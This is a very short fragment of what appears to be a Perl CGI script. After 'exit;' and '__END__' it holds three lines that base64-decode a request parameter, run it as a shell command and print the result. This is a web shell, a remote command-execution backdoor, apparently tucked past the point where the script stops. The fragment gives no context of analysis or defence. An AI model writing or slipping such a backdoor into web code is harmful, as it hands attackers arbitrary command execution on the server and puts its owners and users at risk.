exit;
__END__
my $x=decode_base64($cgi->param('x'));
my @lines=qx{$x};
print @lines;
